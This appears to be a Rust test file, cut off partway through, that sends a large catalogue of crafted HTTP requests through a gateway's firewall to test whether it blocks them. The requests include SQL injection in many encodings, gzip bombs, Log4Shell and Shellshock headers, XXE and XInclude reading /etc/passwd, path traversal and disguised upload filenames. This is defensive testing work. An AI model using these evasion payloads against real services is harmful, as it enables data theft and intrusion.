//! Ways around content inspection, by name, through the whole stage in mode block: with the built-in
//! rules, and with the Core Rule Set where it is there.
//!
//! `tests/golden/waf/bypass.txt` says what becomes of each row: the status, the problem that the
//! client is told of, and the rules that found something, so that a row which is refused for
//! another reason than the one it is for does not hold. `PORTCULLIS_WRITE_BYPASSES=1` writes it anew.

use std::collections::BTreeMap;
use std::fmt::Write as _;
use std::io::Write as _;
use std::path::Path;

use serde_json::json;

use crate::gateway::echo;
use crate::process::rules;
use crate::setup::Setup;

struct Row {
    name: &'static str,
    request: Vec<u8>,
}

const SQL: &str = "1' or '1'='1' union select password from users-- ";
const BASE64: &str = "MScgb3IgJzEnPScxJyB1bmlvbiBzZWxlY3QgcGFzc3dvcmQgZnJvbSB1c2Vycy0tIA==";
const JSON: &str = "application/json";
const BYTES: &str = "application/octet-stream";
const FORM: &str = "application/x-www-form-urlencoded";

fn head(line: &str, fields: &str) -> String {
    format!(
        "{line} HTTP/1.1\r\nHost: h.example\r\nUser-Agent: okhttp/4.12.0\r\nAccept: application/json\r\n{fields}"
    )
}

fn get(target: &str, fields: &str) -> Vec<u8> {
    format!("{}\r\n", head(&format!("GET {target}"), fields)).into_bytes()
}

fn post(content_type: &str, body: impl AsRef<[u8]>) -> Vec<u8> {
    post_with(&format!("Content-Type: {content_type}\r\n"), body)
}

fn post_with(fields: &str, body: impl AsRef<[u8]>) -> Vec<u8> {
    let body = body.as_ref();
    let fields = format!("{fields}Content-Length: {}\r\n\r\n", body.len());
    [head("POST /v1/items", &fields).as_bytes(), body].concat()
}

fn part(fields: &str, content: &str) -> String {
    format!("--b\r\n{fields}\r\n\r\n{content}\r\n")
}

fn multipart(body: &str) -> Vec<u8> {
    post("multipart/form-data; boundary=b", body)
}

fn row(name: &'static str, request: Vec<u8>) -> Row {
    Row { name, request }
}

/// A body in a coding that the operation takes off.
fn coded(coding: &str, body: &[u8]) -> Vec<u8> {
    let fields = format!(
        "Content-Type: {JSON}\r\nContent-Encoding: {coding}\r\nContent-Length: {}\r\n\r\n",
        body.len()
    );
    [head("POST /coded/items", &fields).as_bytes(), body].concat()
}

fn gzip(body: &[u8]) -> Vec<u8> {
    let mut encoder = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::best());
    encoder.write_all(body).unwrap();
    encoder.finish().unwrap()
}

/// Bytes as of a picture or an archive, the same each time.
fn noise(length: usize) -> Vec<u8> {
    let mut state = 0x9E37_79B9_7F4A_7C15_u64;
    let bytes = std::iter::repeat_with(|| {
        state ^= state << 13;
        state ^= state >> 7;
        state ^= state << 17;
        state.to_le_bytes()[4]
    });
    bytes.take(length).collect()
}

fn coded_rows() -> Vec<Row> {
    let attack = format!("{{\"a\":\"{SQL}\"}}");
    let plain = gzip(br#"{"a":1}"#);
    let bomb = format!("{{\"a\":\"{}\"}}", "0".repeat(64 << 20));
    // Well below what a body may have, and still out of all proportion.
    let dense = format!("{{\"a\":\"{}\"}}", "0".repeat(1 << 20));
    vec![
        row(
            "gzip-not-asked-for",
            post_with(
                &format!("Content-Type: {JSON}\r\nContent-Encoding: gzip\r\n"),
                &plain,
            ),
        ),
        row("gzip-request-body", coded("gzip", &gzip(attack.as_bytes()))),
        row("gzip-bomb", coded("gzip", &gzip(bomb.as_bytes()))),
        row("gzip-dense", coded("gzip", &gzip(dense.as_bytes()))),
        row("gzip-that-is-none", coded("gzip", &[0; 4096])),
        row("gzip-cut-short", coded("gzip", &plain[..plain.len() - 4])),
        row(
            "gzip-with-more-behind",
            coded("gzip", &[&plain, attack.as_bytes()].concat()),
        ),
        row(
            "gzip-second-member",
            coded("gzip", &[plain.clone(), gzip(attack.as_bytes())].concat()),
        ),
        row(
            "gzip-twice",
            coded("gzip, gzip", &gzip(&gzip(attack.as_bytes()))),
        ),
        row("coding-unknown", coded("br", attack.as_bytes())),
        row("coding-identity", coded("identity", attack.as_bytes())),
        row("benign-gzip", coded("gzip", &plain)),
    ]
}

fn json_rows() -> Vec<Row> {
    let attack = format!("{{\"a\":\"{SQL}\"}}");
    let hidden = "{\"a\":\"1\\u0027 \\u006fr \\u00271\\u0027=\\u00271\"}";
    let deep = |count: usize| format!("{}1{}", "[".repeat(count), "]".repeat(count));
    let padded = format!("{{\"pad\":\"{}\",\"a\":\"{SQL}\"}}", "x".repeat(200 * 1024));
    let utf16: Vec<u8> = attack.encode_utf16().flat_map(u16::to_le_bytes).collect();
    let utf16be: Vec<u8> = attack.encode_utf16().flat_map(u16::to_be_bytes).collect();
    let wide = |bytes: fn(u32) -> [u8; 4]| -> Vec<u8> {
        let signs = attack.chars().map(u32::from);
        signs.flat_map(bytes).collect()
    };
    let keys: Vec<String> = (0..10_000).map(|at| format!("\"k{at}\":{at}")).collect();
    let rows = [
        ("json-control", post(JSON, &attack)),
        ("json-vendor-type", post("application/vnd.a+json", &attack)),
        ("json-uppercase-type", post("APPLICATION/JSON", &attack)),
        (
            "json-unicode-escapes",
            post(JSON, attack.replace('\'', "\\u0027")),
        ),
        ("json-key-payload", post(JSON, format!("{{\"{SQL}\":1}}"))),
        (
            "json-nested-string",
            post(JSON, format!("{{\"a\":{:?}}}", attack)),
        ),
        ("json-as-text-plain", post("text/plain", &attack)),
        ("json-without-type", post_with("", &attack)),
        (
            "json-duplicate-key-bad-first",
            post(JSON, format!("{{\"a\":\"{SQL}\",\"a\":\"b\"}}")),
        ),
        (
            "json-duplicate-key-bad-last",
            post(JSON, format!("{{\"a\":\"b\",\"a\":\"{SQL}\"}}")),
        ),
        ("json-as-multipart-ct", multipart(&attack)),
        ("form-as-json-ct", post(JSON, "a=b")),
        ("json-as-form-ct", post(FORM, &attack)),
        ("json-bom", post(JSON, format!("\u{feff}{attack}"))),
        ("json5-comment", post(JSON, "{\"a\":1/*x*/}")),
        ("json-trailing-comma", post(JSON, "{\"a\":1,}")),
        ("json-trailing-garbage", post(JSON, "{\"a\":1}x")),
        ("json-nan", post(JSON, "{\"a\":NaN}")),
        (
            "json-utf16-charset",
            post("application/json; charset=utf-16", utf16.clone()),
        ),
        ("json-utf16-without-type", post_with("", utf16.clone())),
        ("json-utf16-as-bytes", post(BYTES, utf16)),
        ("json-utf16be-without-type", post_with("", utf16be.clone())),
        ("json-utf16be-as-text-plain", post("text/plain", utf16be)),
        ("json-utf32-as-bytes", post(BYTES, wide(u32::to_le_bytes))),
        (
            "json-utf32be-without-type",
            post_with("", wide(u32::to_be_bytes)),
        ),
        (
            "benign-utf16-text",
            post("text/plain", "a\0 \0t\0e\0x\0t\0"),
        ),
        ("json-lone-surrogate", post(JSON, "{\"a\":\"\\ud800\"}")),
        ("json-depth-200", post(JSON, deep(200))),
        (
            "json-10k-keys",
            post(JSON, format!("{{{}}}", keys.join(","))),
        ),
        (
            "json-base64-value",
            post(JSON, format!("{{\"a\":\"{BASE64}\"}}")),
        ),
        (
            "json-nul-in-key",
            post(JSON, "{\"a\\u0000.php\":1,\"f\":\"x.php\\u0000.jpg\"}"),
        ),
        (
            "json-proto-key",
            post(JSON, "{\"__proto__\":{\"admin\":true}}"),
        ),
        (
            "json-fullwidth-quote",
            post(JSON, "{\"a\":\"x\u{ff07} or 1=1\"}"),
        ),
        (
            "ndjson-second-record",
            post("application/x-ndjson", format!("{{\"a\":1}}\n{attack}\n")),
        ),
        ("json-pad-200kb-then-payload", post(JSON, padded)),
        (
            "json-as-text-trailing-garbage",
            post("text/plain", format!("{hidden} x")),
        ),
        (
            "json-as-bytes-trailing-byte",
            post(BYTES, [hidden.as_bytes(), b"\xff"].concat()),
        ),
        (
            "json-as-text-behind-comment",
            post("text/plain", format!("/**/{hidden}")),
        ),
        (
            "json-as-text-behind-guard",
            post("text/plain", format!(")]}}',\n{hidden}")),
        ),
        (
            "json-as-bytes-behind-semicolon",
            post(BYTES, format!(";{hidden}")),
        ),
        (
            "json-as-text-comment-within",
            post("text/plain", format!("{{\"b\":/* \" */1,\"c\":{hidden}}}")),
        ),
        ("json-invalid-utf8", post(JSON, b"{\"a\":\"\xff\"}")),
        (
            "json-seq-second-record",
            post(
                "application/json-seq",
                format!("\u{1e}{{\"a\":1}}\n\u{1e}{attack}\n"),
            ),
        ),
        (
            "json-as-text-string",
            post(
                "text/plain",
                "\"1\\u0027 \\u006fr \\u00271\\u0027=\\u00271\"",
            ),
        ),
        (
            "json-as-text-operator-name",
            post("text/plain", "{\"a\":{\"\\u0024ne\":1}} x"),
        ),
        (
            "json-as-form-trailing-garbage",
            post(FORM, format!("{} x", hidden.replace('=', "\\u003d"))),
        ),
        (
            "json-base64-with-blanks",
            post(
                JSON,
                format!("{{\"a\":\" {}\\n{}\"}}", &BASE64[..20], &BASE64[20..]),
            ),
        ),
        (
            "json-base64-unpadded",
            post(
                JSON,
                format!("{{\"a\":\"{}\"}}", BASE64.trim_end_matches('=')),
            ),
        ),
        (
            "json-base64-data-url",
            post(
                JSON,
                format!("{{\"a\":\"data:text/plain;base64,{BASE64}\"}}"),
            ),
        ),
        (
            "json-value-url-encoded",
            post(
                JSON,
                format!(
                    "{{\"a\":\"{}\"}}",
                    SQL.replace(' ', "%20").replace('\'', "%27")
                ),
            ),
        ),
    ];
    rows.into_iter()
        .map(|(name, request)| row(name, request))
        .collect()
}

fn body_rows() -> Vec<Row> {
    let escaped = SQL.replace(' ', "+").replace('\'', "%27");
    let field = "Content-Disposition: form-data; name=\"a\"";
    let file = "Content-Disposition: form-data; name=\"f\"; filename=\"a.txt\"";
    let end = "--b--\r\n";
    let attack = format!("{}{end}", part(field, SQL));
    let plain = part(field, "1");
    vec![
        row(
            "form-charset-ibm037",
            post(&format!("{FORM}; charset=ibm037"), "a=%81"),
        ),
        row(
            "double-charset-utf7",
            post(
                "text/plain; charset=utf-8; charset=utf-7",
                "+ADw-script+AD4-",
            ),
        ),
        row("form-control", post(FORM, format!("a={escaped}"))),
        row("form-without-type", post_with("", "a=1%27+or+%271%27=%271")),
        row(
            "form-without-type-like-json",
            post_with("", "[=1&a=1%27+or+%271%27=%271"),
        ),
        row(
            "form-without-type-among-bytes",
            post_with(
                "",
                [b"b=", &noise(64)[..], b"&a=1%27+or+%271%27=%271"].concat(),
            ),
        ),
        row(
            "form-as-text-plain",
            post("text/plain", "a=1%27+or+%271%27=%271"),
        ),
        row("form-name-payload", post(FORM, format!("{escaped}=1"))),
        row(
            "form-hpp-split",
            post(FORM, "a=1%27+union&a=+select+password+from+users--+"),
        ),
        row(
            "form-percent-u",
            post(FORM, "a=1%u0027 or %u00271%u0027=%u00271"),
        ),
        row("form-overlong-utf8", post(FORM, "a=%c0%ae%c0%ae%c0%af")),
        row("form-nul", post(FORM, "f=x.php%00.jpg")),
        row("multipart-control", multipart(&attack)),
        row(
            "multipart-filename-star",
            multipart(&format!(
                "{}{end}",
                part(
                    "Content-Disposition: form-data; name=\"f\"; filename*=utf-8''a.php",
                    "x"
                )
            )),
        ),
        row(
            "multipart-preamble-payload",
            multipart(&format!("{SQL}\r\n{plain}{end}")),
        ),
        row(
            "multipart-epilogue-payload",
            multipart(&format!("{plain}{end}{SQL}")),
        ),
        row(
            "multipart-dup-name",
            multipart(&format!(
                "{}{end}",
                part(
                    "Content-Disposition: form-data; name=\"a\"; name=\"b\"",
                    "1"
                )
            )),
        ),
        row("multipart-no-final-boundary", multipart(&plain)),
        row(
            "multipart-two-boundaries",
            post("multipart/form-data; boundary=b; boundary=c", &attack),
        ),
        row(
            "multipart-rfc2231-boundary",
            post("multipart/form-data; boundary*0=b", &attack),
        ),
        row(
            "multipart-lf-only",
            multipart(&attack.replace("\r\n", "\n")),
        ),
        row(
            "multipart-cte-base64",
            multipart(&format!(
                "{}{end}",
                part(
                    &format!("{field}\r\nContent-Transfer-Encoding: base64"),
                    BASE64
                )
            )),
        ),
        row(
            "multipart-header-folding",
            multipart(&format!(
                "{}{end}",
                part("Content-Disposition: form-data;\r\n name=\"a\"", "1")
            )),
        ),
        row(
            "multipart-part-charset-first-bad-last-good",
            multipart(&format!(
                "{}{}{end}",
                part(
                    &format!("{field}\r\nContent-Type: text/plain; charset=utf-7"),
                    "+ADw-"
                ),
                part(
                    "Content-Disposition: form-data; name=\"c\"\r\nContent-Type: text/plain; charset=utf-8",
                    "1"
                )
            )),
        ),
        row(
            "multipart-part-charset-utf16",
            multipart(&format!(
                "{}{end}",
                part(
                    &format!("{field}\r\nContent-Type: text/plain; charset=utf-16"),
                    "\u{0}'\u{0} \u{0}o\u{0}r"
                )
            )),
        ),
        row(
            "multipart-200-parts",
            multipart(&format!("{}{}{end}", plain.repeat(199), part(field, SQL))),
        ),
        row(
            "multipart-filename-space-before-extension",
            multipart(&format!(
                "{}{end}",
                part(
                    "Content-Disposition: form-data; name=\"f\"; filename=\"shell .php\"",
                    "x"
                )
            )),
        ),
        row(
            "multipart-filename-empty",
            multipart(&format!(
                "{}{end}",
                part(&format!("{field}; filename=\"\""), SQL)
            )),
        ),
        row(
            "multipart-name-unquoted",
            multipart(&format!(
                "{}{end}",
                part("Content-Disposition: form-data; name=a", SQL)
            )),
        ),
        row(
            "multipart-boundary-quoted",
            post("multipart/form-data; boundary=\"b\"", &attack),
        ),
        row(
            "multipart-hpp-split",
            multipart(&format!(
                "{}{}{end}",
                part(field, "1' union"),
                part(field, "select password from users-- ")
            )),
        ),
        row(
            "xml-cdata",
            post("text/xml", format!("<a><![CDATA[{SQL}]]></a>")),
        ),
        row(
            "xml-soap",
            post(
                "application/soap+xml",
                format!("<s:Envelope xmlns:s=\"urn:s\"><s:Body><a>{SQL}</a></s:Body></s:Envelope>"),
            ),
        ),
        row(
            "xml-xinclude",
            post(
                "text/xml",
                "<a xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include href=\"file:///etc/passwd\"/></a>",
            ),
        ),
        row(
            "text-among-bytes",
            post(
                BYTES,
                [
                    &[0_u8, 255, 1, 254].repeat(64)[..],
                    SQL.as_bytes(),
                    &[0; 64],
                ]
                .concat(),
            ),
        ),
        row(
            "multipart-json-part",
            multipart(&format!(
                "{}{end}",
                part(
                    &format!("{field}\r\nContent-Type: application/json"),
                    &format!("{{\"x\":\"{SQL}\"}}")
                )
            )),
        ),
        row(
            "multipart-file-content",
            multipart(&format!("{}{end}", part(file, SQL))),
        ),
        row("xml-element", post("text/xml", format!("<a>{SQL}</a>"))),
        row(
            "xml-attribute",
            post("text/xml", format!("<a b=\"{SQL}\"/>")),
        ),
        row(
            "xml-comment-split",
            post(
                "text/xml",
                "<a>1' or '1'=<!-- x -->'1' union select password from users-- </a>",
            ),
        ),
        row(
            "xml-character-references",
            post("text/xml", format!("<a>{}</a>", SQL.replace('\'', "&#39;"))),
        ),
        row(
            "xxe-dtd-external-entity",
            post(
                "text/xml",
                "<!DOCTYPE a [<!ENTITY b SYSTEM \"file:///x\">]><a>&b;</a>",
            ),
        ),
        row("xml-utf16", post("text/xml; charset=utf-16", "<a>1</a>")),
        row(
            "content-type-twice",
            post_with(
                &format!("Content-Type: {JSON}\r\nContent-Type: {FORM}\r\n"),
                "a=1",
            ),
        ),
        row(
            "content-type-twice-swapped",
            post_with(
                &format!("Content-Type: {FORM}\r\nContent-Type: {JSON}\r\n"),
                "{\"a\":1}",
            ),
        ),
    ]
}

fn head_rows() -> Vec<Row> {
    let escaped = SQL.replace(' ', "%20").replace('\'', "%27");
    let twice = escaped.replace('%', "%25");
    let form = format!("a={}", escaped.replace("%20", "+"));
    let chunked = |body: &str| {
        let fields = format!("Content-Type: {FORM}\r\nTransfer-Encoding: chunked\r\n\r\n{body}");
        head("POST /v1/items", &fields).into_bytes()
    };
    let parts = [
        "a=1%27+o",
        "r+%271%27%3D%271%27+union+sel",
        "ect+password+from+users--+",
        "",
    ];
    let split: String = parts
        .iter()
        .map(|part| format!("{:x}\r\n{part}\r\n", part.len()))
        .collect();
    let many: String = (0..300).map(|at| format!("X-H{at}: 1\r\n")).collect();
    let bomb: Vec<String> = (0..5000).map(|at| format!("c{at}=1")).collect();
    vec![
        row(
            "get-with-body",
            [
                head(
                    "GET /v1/items",
                    &format!(
                        "Content-Type: {FORM}\r\nContent-Length: {}\r\n\r\n",
                        form.len()
                    ),
                ),
                form,
            ]
            .concat()
            .into_bytes(),
        ),
        row(
            "query-percent-u",
            get("/v1/items?a=1%u0027%20or%20%u00271%u0027=%u00271", ""),
        ),
        row(
            "query-overlong-utf8",
            get("/v1/items?a=%c0%ae%c0%ae%c0%af", ""),
        ),
        row(
            "cookie-control",
            get("/v1/items", &format!("Cookie: a={SQL}\r\n")),
        ),
        row("path-nul", get("/v1/a.php%00.jpg", "")),
        row("path-overlong-utf8", get("/v1/%c0%ae%c0%ae/a", "")),
        row("path-parameter-traversal", get("/v1/..;/..;/admin", "")),
        row("path-backslash-traversal", get("/v1/..%5c..%5cwindows", "")),
        row("path-slash-encoded", get("/v1/..%2f..%2fetc", "")),
        row("query-control", get(&format!("/v1/items?a={escaped}"), "")),
        row(
            "query-double-encoded",
            get(&format!("/v1/items?a={twice}"), ""),
        ),
        row(
            "query-triple-encoded",
            get(&format!("/v1/items?a={}", twice.replace('%', "%25")), ""),
        ),
        row(
            "query-name-payload",
            get(&format!("/v1/items?{escaped}=1"), ""),
        ),
        row(
            "query-hpp-split",
            get(
                "/v1/items?a=1%27+union&a=+select+password+from+users--+",
                "",
            ),
        ),
        row(
            "cookie-base64-escaped",
            get("/v1/items", &format!("Cookie: s=M%53{}\r\n", &BASE64[2..])),
        ),
        row(
            "cookie-json-marked",
            get(
                "/v1/items",
                "Cookie: s=j%3A{\"a\":\"1\\u0027 or \\u00271\\u0027=\\u00271\"}\r\n",
            ),
        ),
        row("path-segment-sqli", get(&format!("/v1/{escaped}"), "")),
        row("path-%3f-sqli", get(&format!("/v1/x%3Fa={escaped}"), "")),
        row("query-with-raw-signs", get("/v1/items?a='||\"{x}", "")),
        row(
            "path-double-slash",
            get(&format!("//v1/items?a={escaped}"), ""),
        ),
        row(
            "path-traversal-encoded",
            get("/v1/..%252f..%252fetc/passwd", ""),
        ),
        row(
            "header-sqli",
            get("/v1/items", &format!("X-Filter: {SQL}\r\n")),
        ),
        row(
            "authorization-sqli",
            get("/v1/items", &format!("Authorization: {SQL}\r\n")),
        ),
        row(
            "header-not-opted-in",
            get("/v1/items", "X-Other: 1' or '1'='1\r\n"),
        ),
        row(
            "cookie-base64",
            get("/v1/items", &format!("Cookie: a=b; s={BASE64}\r\n")),
        ),
        row(
            "cookie-base64-json",
            get(
                "/v1/items",
                "Cookie: s=eyJhIjoiMScgb3IgJzEnPScxJyB1bmlvbiBzZWxlY3QgMSwyLS0gIn0=\r\n",
            ),
        ),
        row(
            "referer-sqli",
            get("/v1/items", &format!("Referer: {SQL}\r\n")),
        ),
        row(
            "x-forwarded-for-xss",
            get(
                "/v1/items",
                "X-Forwarded-For: <script>alert(1)</script>\r\n",
            ),
        ),
        row(
            "log4shell-header",
            get(
                "/v1/items",
                "X-Api-Version: ${${lower:j}ndi:ldap://a.example/x}\r\n",
            ),
        ),
        row(
            "shellshock-header",
            get(
                "/v1/items",
                "User-Agent: () { :;}; /bin/cat /etc/passwd\r\n",
            ),
        ),
        row(
            "chunk-extension",
            chunked("3;x=\"\r\n\r\n\"\r\na=1\r\n0\r\n\r\n"),
        ),
        row("chunk-split-payload", chunked(&split)),
        row(
            "trailer-payload",
            chunked(&format!("3\r\na=1\r\n0\r\nX-Filter: {SQL}\r\n\r\n")),
        ),
        row("300-headers", get("/v1/items", &many)),
        row(
            "cookie-bomb",
            get("/v1/items", &format!("Cookie: {}\r\n", bomb.join("; "))),
        ),
    ]
}

fn graphql(request: serde_json::Value) -> Vec<u8> {
    let body = request.to_string();
    let fields = format!(
        "Content-Type: {JSON}\r\nContent-Length: {}\r\n\r\n{body}",
        body.len()
    );
    head("POST /graphql", &fields).into_bytes()
}

fn graphql_get(query: &str) -> Vec<u8> {
    let escape = |sign: char| match sign {
        'a'..='z' | 'A'..='Z' | '0'..='9' => sign.to_string(),
        sign => format!("%{:02X}", sign as u32),
    };
    let query: String = query.chars().map(escape).collect();
    get(&format!("/graphql?query={query}"), "")
}

/// Of a document only what a client can put data into is looked at.
fn graphql_rows() -> Vec<Row> {
    let literal = format!("{{ user(name: \"{SQL}\") {{ id }} }}");
    let benign = "query Q($first: Int = 10) { select(first: $first, by: {or: [{name: \"O'Brien\"}]}) { union id } }";
    vec![
        row("graphql-literal", graphql(json!({"query": literal}))),
        row(
            "graphql-block-string",
            graphql(json!({"query": literal.replace('"', "\"\"\"")})),
        ),
        row(
            "graphql-escaped-literal",
            graphql(json!({"query": literal.replace('\'', "\\u0027")})),
        ),
        row(
            "graphql-variables",
            graphql(
                json!({"query": "query($n: String) { user(name: $n) { id } }", "variables": {"n": SQL}}),
            ),
        ),
        row(
            "graphql-variable-name",
            graphql(json!({"query": "{ a }", "variables": {"n": {(SQL): 1}}})),
        ),
        row(
            "graphql-extensions",
            graphql(json!({"query": "{ a }", "extensions": {"trace": SQL}})),
        ),
        row(
            "graphql-operation-name",
            graphql(json!({"query": "query Q { a }", "operationName": SQL})),
        ),
        row(
            "graphql-batch",
            graphql(json!([{"query": "{ a }"}, {"query": literal}])),
        ),
        row("graphql-get", graphql_get(&literal)),
        row(
            "benign-graphql",
            graphql(json!({"query": benign, "operationName": "Q", "variables": {"first": 5}})),
        ),
        row(
            "benign-graphql-block",
            graphql(json!({"query": "{ a(b: \"\"\"O'Brien; see you\"\"\") { c } }"})),
        ),
        row(
            "benign-graphql-extensions",
            graphql(json!({"query": "{ a }", "extensions": {"client": "it's the app"}})),
        ),
        row("benign-graphql-get", graphql_get(benign)),
    ]
}

/// What looks like the rows above and is not one.
fn benign_rows() -> Vec<Row> {
    let field = "Content-Disposition: form-data; name=\"a\"";
    let file = "Content-Disposition: form-data; name=\"f\"; filename=\"a.txt\"\r\nContent-Type: text/plain";
    let multi = format!(
        "{}{}--b--\r\n",
        part(field, "O'Brien"),
        part(file, "a text")
    );
    vec![
        row("benign-json", post(JSON, "{\"a\":{\"name\":\"O'Brien\",\"n\":[1,2.5e3,null,true]}}")),
        row("benign-json-string", post(JSON, "{\"a\":\"{\\\"b\\\": [1, 2], \\\"c\\\": \\\"it's\\\"}\"}")),
        row("benign-json-base64", post(JSON, "{\"a\":\"SGVsbG8sIHRoaXMgaXMgYSB0ZXh0IGZvciB5b3Uu\"}")),
        row("benign-json-twice", post(JSON, "{\"a\":1,\"a\":2}")),
        row("benign-json-depth-60", post(JSON, format!("{}1{}", "[".repeat(60), "]".repeat(60)))),
        row("benign-json-surrogates", post(JSON, "{\"a\":\"\\ud83d\\ude00 \u{fc}\"}")),
        row("benign-ndjson", post("application/x-ndjson", "{\"a\":1}\n{\"a\":2}\n")),
        row("benign-text", post("text/plain", "Dear all, see you at 5 o'clock.")),
        row("benign-form", post(FORM, "a=O%27Brien&a=2&b=%C3%BC")),
        row("benign-multipart", multipart(&multi)),
        row("benign-xml", post("text/xml", "<a b=\"c\"><!-- d -->e &amp; f</a>")),
        row("benign-charset", post("application/json; charset=UTF-8", "{\"a\":1}")),
        row("benign-path", get("/v1/J%C3%BCrg%20M%C3%BCller", "")),
        row("benign-header", get("/v1/items", "X-Filter: name eq bern and size gt 5\r\nAuthorization: Bearer eyJhbGciOiJFUzI1NiJ9.e30.c2ln\r\n")),
        row("benign-cookie", get("/v1/items", "Cookie: theme=dark; _ga=GA1.2.1234567890.1690000000; s=eyJpZCI6MTIzNCwibmFtZSI6IkFubmEifQ==\r\n")),
        row("benign-chunked", head("POST /v1/items", &format!("Content-Type: {FORM}\r\nTransfer-Encoding: chunked\r\n\r\n3\r\na=1\r\n0\r\n\r\n")).into_bytes()),
        row("benign-png", post("image/png", [b"\x89PNG\r\n\x1a\n", &noise(20_000)[..]].concat())),
        row("benign-bytes", post(BYTES, noise(100_000))),
        row("benign-gzip-file", post(BYTES, gzip(&noise(30_000)))),
        row("benign-log", post("text/plain", "[INFO] hello [x]")),
        row("benign-braces", post("text/plain", "{see attached}")),
        row("benign-angles", post("text/plain", "<see below>")),
        row("benign-quoted", post("text/plain", "\"Yes\", he said, \"it's fine\"")),
        row("benign-short-bytes", post(BYTES, b"{\x00\x01}")),
        row("benign-multipart-empty-file", multipart(&format!("{}--b--\r\n", part("Content-Disposition: form-data; name=\"f\"; filename=\"\"\r\nContent-Type: application/octet-stream", "")))),
        row("benign-cookie-json", get("/v1/items", "Cookie: s=j%3A%7B%22a%22%3A%22it's%22%7D\r\n")),
        row("benign-encoded-address", get("/v1/items?next=%2Flogin%3Fnext%3D%252Fa%252520b", "")),
        row("benign-data-url", post(JSON, "{\"a\":\"data:text/plain;base64,SGVsbG8sIHRoaXMgaXMgYSB0ZXh0IGZvciB5b3Uu\"}")),
        row("benign-guarded", post("text/plain", ")]}',\n{\"a\":\"it's \\u00e9\"}")),
        row("benign-commented", post("text/plain", "// a \"note\"\n# another\n/* and */ {a: 1, b: 'it is'} // it's")),
        row("benign-untyped-text", post_with("", "Dear all, see you at 5 o'clock.")),
        row("benign-untyped-form", post_with("", "a=O%27Brien&b=50%+off")),
        row("benign-untyped-bytes", post_with("", noise(20_000))),
        row("benign-text-form", post("text/plain", "token=QUJDRA==")),
        row("benign-query-repeated", get("/v1/items?tag=union&tag=select&sort[name]=asc", "")),
        row("benign-json-escapes-of-addresses", post(JSON, "{\"a\":\"50%25%20off%2C%20it%27s\"}")),
        row("benign-json-base64-unpadded", post(JSON, "{\"a\":\"SGVsbG8sIHRoaXMgaXMgYSB0ZXh0IGZvciB5b3U\"}")),
        row("benign-multipart-as-others-write-it", post("multipart/form-data; boundary=\"b\"", format!("{}{}{}--b--\r\n", part("Content-Disposition: form-data; name=a", "O'Brien"), part(field, "1"), part(&format!("{field}\r\nContent-Type: text/plain; charset=utf-8"), "\u{fc}")))),
        row("benign-xml-cdata", post("text/xml", "<a><![CDATA[Tom & Jerry <live>, it's on]]></a>")),
        row("benign-soap", post("application/soap+xml; charset=utf-8", "<s:Envelope xmlns:s=\"urn:s\"><s:Body><a>O'Brien</a></s:Body></s:Envelope>")),
        row("benign-xinclude", post("text/xml", "<a xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include href=\"chapter-2.xml\"/></a>")),
        row("benign-get-with-body", format!("{}a=1", head("GET /v1/items", &format!("Content-Type: {FORM}\r\nContent-Length: 3\r\n\r\n"))).into_bytes()),
        row("benign-json-seq", post("application/json-seq", "\u{1e}{\"a\":1}\n\u{1e}{\"a\":2}\n")),
        row("benign-url", post(JSON, "{\"callback\":\"https://app.example/done?x=1&y=two#top\"}")),
    ]
}

fn rows() -> Vec<Row> {
    let all = [
        json_rows(),
        coded_rows(),
        body_rows(),
        head_rows(),
        graphql_rows(),
        benign_rows(),
    ];
    all.into_iter().flatten().collect()
}

/// An API and one that takes codings off, inspected by what `waf` names.
fn setup(waf: &str) -> Setup<'static> {
    let coded = r#"
[api.coded]
paths = ["/coded/**"]
methods = ["POST"]
contract = "none"
authentication = "none"
upstream = "app"
owner = "team"
max_body = "2MiB"
request_encodings = ["gzip"]
waf_headers = []

[api.graphql]
paths = ["/graphql"]
methods = ["GET", "POST"]
contract = "graphql"
authentication = "none"
upstream = "app"
owner = "team-graphql"

[api.graphql.graphql]
max_batch = 2"#;
    Setup::paths("app", &["/**"], &["GET", "POST"])
        .api("max_body = \"2MiB\"\nwaf_headers = [\"X-Filter\", \"Authorization\"]")
        .tables(coded)
        .tables(waf)
}

/// What became of each row: status, problem, and the rules that found something.
fn outcomes(name: &str, setup: &Setup<'_>) -> BTreeMap<&'static str, String> {
    let gateway = setup.start(name, echo());
    let mut outcomes = Vec::new();
    for row in rows() {
        let answer = gateway.ask(&row.request);
        let text = String::from_utf8_lossy(&answer.body);
        // Fields behind a body are not passed on, so that nothing in them has to be looked at.
        if row.name == "trailer-payload" {
            assert!(!text.contains("union"), "the trailer was passed on: {text}");
        }
        let problem: serde_json::Value = serde_json::from_str(&text).unwrap_or_default();
        let kind = problem["type"].as_str().unwrap_or_default();
        let kind = kind.rsplit(':').next().unwrap_or_default();
        let outcome = format!("{} {kind}", answer.status);
        outcomes.push((row.name, outcome.trim_end().to_owned()));
    }
    // One shard tells of one request after the other.
    let lines = gateway.lines();
    assert_eq!(lines.len(), outcomes.len(), "{lines:?}");
    for (line, (name, outcome)) in lines.iter().zip(&mut outcomes) {
        let status = line["status"].to_string();
        assert!(
            outcome.starts_with(&status),
            "{name}: {outcome}, but {line}"
        );
        for rule in rules(line) {
            write!(outcome, " {rule}").unwrap();
        }
    }
    let count = outcomes.len();
    let outcomes: BTreeMap<&'static str, String> = outcomes.into_iter().collect();
    assert_eq!(outcomes.len(), count, "two rows have one name");
    outcomes
}

const GOLDEN: &str = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/golden/waf/bypass.txt");

/// One column of the file: `name = built-in rules | Core Rule Set`.
fn check(column: usize, found: &BTreeMap<&'static str, String>) {
    let text = std::fs::read_to_string(GOLDEN).unwrap_or_default();
    let lines = text.lines().filter(|line| !line.starts_with('#'));
    let lines = lines.filter_map(|line| line.split_once(" = "));
    let mut expected: BTreeMap<&str, [&str; 2]> = lines
        .map(|(name, ends)| {
            let (builtin, crs) = ends.split_once(" | ").unwrap_or((ends, ""));
            (name.trim(), [builtin.trim(), crs.trim()])
        })
        .collect();
    if std::env::var_os("PORTCULLIS_WRITE_BYPASSES").is_some() {
        for (name, outcome) in found {
            expected.entry(name).or_default()[column] = outcome;
        }
        let mut made = String::from(HEADING);
        for row in rows() {
            let [builtin, crs] = expected.get(row.name).copied().unwrap_or_default();
            writeln!(made, "{} = {builtin} | {crs}", row.name).unwrap();
        }
        std::fs::create_dir_all(Path::new(GOLDEN).parent().unwrap()).unwrap();
        std::fs::write(GOLDEN, made).unwrap();
        return;
    }
